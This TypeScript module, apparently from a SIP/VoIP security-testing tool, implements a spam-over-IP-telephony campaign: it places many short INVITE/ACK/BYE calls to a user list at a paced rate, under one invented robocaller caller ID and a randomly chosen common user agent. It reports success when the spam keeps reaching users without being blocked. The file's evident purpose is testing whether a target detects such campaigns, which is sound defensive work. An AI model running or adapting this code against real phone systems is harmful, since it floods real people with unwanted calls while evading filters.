/**
 * spit (spam over IP telephony): many short calls fanned out to many users, each one
 * INVITE, ACK, a short hold, BYE, as a robocaller places them; paced by --rate, at most
 * --concurrency open at once. A call answered is a user reached. The campaign succeeded
 * when its calls kept reaching users to the end; it was stopped when the target went silent
 * or refused its last calls (a detector needs a few calls to see the pattern: what matters
 * is that the campaign cannot go on).
 */
import { achievedRate, type CommonOptions, DEFAULT_ANSWER_WAIT_MS, sourcesOf } from '../context.ts';
import { pace } from '../pacer.ts';
import { COMMON_USER_AGENTS, Random } from '../random.ts';
import type { AttackReport } from '../report.ts';
import { Tally } from '../tally.ts';
import { formatEndpoint } from '../target.ts';
import { makeCall, Phone } from '../ua/caller.ts';
import { SipEndpoint } from '../ua/endpoint.ts';
import { type CalleeChoice, openCallee } from './third-party.ts';

export interface SpitOptions extends CommonOptions, CalleeChoice {
  readonly users: readonly string[];
  readonly holdMs: number;
  readonly concurrency: number;
}

export async function runSpit(options: SpitOptions): Promise<AttackReport> {
  const { target, limits, users } = options;
  const random = new Random(options.seed);
  const opened = await openCallee(options);
  const endpoint = await SipEndpoint.bind(sourcesOf(options).at(0)).catch((error: unknown) => {
    opened.release();
    throw error;
  });
  const phone = new Phone(endpoint, target, random);
  const tally = new Tally(limits.count);
  const reachedUsers = new Set<string>();
  let open = 0;
  let completed = 0;
  const waiters: (() => void)[] = [];
  const slot = async (): Promise<void> => {
    while (open >= options.concurrency) await new Promise<void>((resolve) => waiters.push(resolve));
    open++;
  };
  const release = (): void => {
    open--;
    waiters.shift()?.();
  };
  const jobs: Promise<void>[] = [];
  const started = performance.now();
  const startedAt = new Date().toISOString();
  // A robocaller's caller ID: a plausible number, the same for the campaign.
  const callerId = String(2_000_000 + random.int(7_000_000));
  const userAgent = options.userAgent ?? random.pick(COMMON_USER_AGENTS);
  try {
    const paced = await pace(
      { ...limits, batch: 1, ...(options.signal ? { signal: options.signal } : {}) },
      async (index) => {
        await slot();
        tally.sentOne(index);
        const user = users[index % users.length]!;
        const call = phone.newCall({ user, fromUser: callerId, userAgent });
        jobs.push(
          makeCall(call, options.holdMs, 4000 + (options.answerWaitMs ?? DEFAULT_ANSWER_WAIT_MS))
            .then((outcome) => {
              if (outcome.inviteStatus > 0) tally.answer(index, outcome.inviteStatus);
              if (outcome.inviteStatus >= 200 && outcome.inviteStatus < 300) reachedUsers.add(user);
              completed++;
            })
            .finally(() => {
              phone.forget(call);
              release();
            }),
        );
        return undefined;
      },
    );
    await Promise.all(jobs);
    const answers = tally.summary();
    const reached = answers.byStatus['200'] ?? 0;
    // Calls at the end of the campaign that reached no one (refused, or not answered).
    let trailing = 0;
    for (let i = answers.sent - 1; i >= 0; i--) {
      const status = tally.statusOf(i);
      if (status >= 200 && status < 300) break;
      trailing++;
    }
    const refusedAtEnd = trailing >= Math.max(3, Math.ceil(answers.sent * 0.05));
    let succeeded: boolean;
    let outcome: string;
    if (answers.blockedAfter) {
      succeeded = false;
      outcome = `the target went silent after ${answers.blockedAfter.messages} calls (${reachedUsers.size} users reached before)`;
    } else if (reached === 0) {
      succeeded = false;
      outcome = `no call was answered (${answers.answered} of ${answers.sent} got a final answer)`;
    } else if (refusedAtEnd) {
      succeeded = false;
      outcome = `the target refused the campaign's last ${trailing} calls (${reached} of ${answers.sent} answered before: ${reachedUsers.size} users reached)`;
    } else {
      succeeded = true;
      outcome = `${reached} of ${answers.sent} calls answered: the spam reached ${reachedUsers.size} users`;
    }
    return {
      kind: 'spit',
      target: formatEndpoint(target),
      transport: 'udp',
      startedAt,
      seconds: Math.round((performance.now() - started) / 10) / 100,
      unit: 'call',
      rate: { asked: limits.rate, achieved: achievedRate(paced.sent, paced.elapsedMs) },
      sources: { count: 1, first: endpoint.address, last: endpoint.address },
      sendErrors: endpoint.sendErrors,
      answers,
      succeeded,
      applicable: true,
      outcome,
      details: {
        callerId,
        users: users.length,
        reachedUsers: reachedUsers.size,
        completed,
        holdMs: options.holdMs,
      },
      notes: [
        `calls     from ${callerId} to ${users.length} users, ${options.holdMs} ms each, ${options.concurrency} at once at most`,
      ],
    };
  } finally {
    endpoint.close();
    opened.release();
  }
}
